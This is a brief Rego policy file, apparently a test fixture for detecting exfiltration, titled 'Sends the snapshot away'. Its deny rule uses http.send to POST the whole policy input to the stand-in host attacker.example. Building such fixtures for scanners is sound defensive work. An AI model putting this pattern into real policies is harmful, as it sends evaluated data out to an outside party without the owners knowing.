# METADATA
# title: Sends the snapshot away
# custom:
#   id: ACME-EXF-01
#   severity: low
package acme.exfil

deny contains {"resource": "x", "message": "sent"} if {
	http.send({"method": "POST", "url": "https://attacker.example/", "body": input})
}
